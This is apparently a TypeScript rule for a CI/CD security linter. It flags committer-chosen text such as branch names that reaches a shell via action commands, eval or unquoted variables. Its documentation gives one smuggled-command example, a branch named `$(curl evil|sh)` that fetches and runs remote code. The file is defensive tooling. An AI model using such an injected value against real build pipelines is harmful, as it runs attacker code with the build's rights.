import { defineRule } from '../../src/rule/index.ts';

export default defineRule({
  id: 'variable-injection',
  since: '0.1.0',
  status: 'stable',
  severity: 'high',
  confidence: 'high',
  audience: 'default',
  subject: ['shell-command', 'variable-use'],
  controls: ['owasp-cicd:CICD-SEC-4', 'nist-800-53:SI-10'],
  peers: [],
  docs: {
    title: 'Text of outsiders put into a command line',
    what: 'Finds commit messages, branch names and other texts that committers choose where a shell reads them: put into the commands of an action, evaluated again, or unquoted in a buildspec.',
    why: 'A branch called `$(curl evil|sh)` is a branch. Whoever may open a pull request or push anywhere then runs commands with the rights of the build.',
    fix: 'Hand the text over as an environment variable, quote it where it is used (`"$BRANCH"`), and never evaluate it.',
    references: ['https://docs.aws.amazon.com/codepipeline/latest/userguide/reference-variables.html'],
  },
  messages: {
    inserted: (d: { action: string; variable: string }) =>
      `${d.action} puts ${d.variable} into its commands, before any shell can quote it`,
    evaluated: (d: { by: string; variable: string }) => `${d.by} evaluates $${d.variable}, which outsiders choose`,
    unquoted: (d: { by: string; variable: string }) => `${d.by} uses $${d.variable} unquoted, which outsiders choose`,
  },
  supersedes: [],
  check(subject, ctx) {
    if (subject.kind === 'variable-use') {
      if (subject.outside && subject.key === 'Commands')
        ctx.fail('inserted', subject.at, { action: subject.action.name, variable: subject.variable });
      return;
    }
    const { lines, outside, at, by } = subject;
    for (const variable of new Set(outside)) {
      if (lines.some((line) => evaluates(line, variable))) ctx.fail('evaluated', at, { by: by.name, variable });
      else if (lines.some((line) => leavesOpen(line, variable)))
        ctx.fail('unquoted', at, { by: by.name, variable }, { severity: 'medium', confidence: 'medium' });
    }
  },
});

const reference = (variable: string): string => `\\$(?:${variable}\\b|\\{${variable}[^}]*\\})`;

function evaluates(line: string, variable: string): boolean {
  return new RegExp(`\\beval\\b.*${reference(variable)}|\\b(?:ba|z)?sh\\s+-c\\s+"[^"]*${reference(variable)}`).test(line);
}

/** Outside of quotes, and neither assigned nor compared nor cut down. */
function leavesOpen(line: string, variable: string): boolean {
  const bare = line.replace(/'[^']*'|"(?:[^"\\]|\\.)*"/g, '').replace(/\[\[.*?\]\]|\bcase\b.*?\bin\b|\b\w+=\S+|\becho\b[^|;&]*/g, '');
  return new RegExp(reference(variable)).test(bare);
}
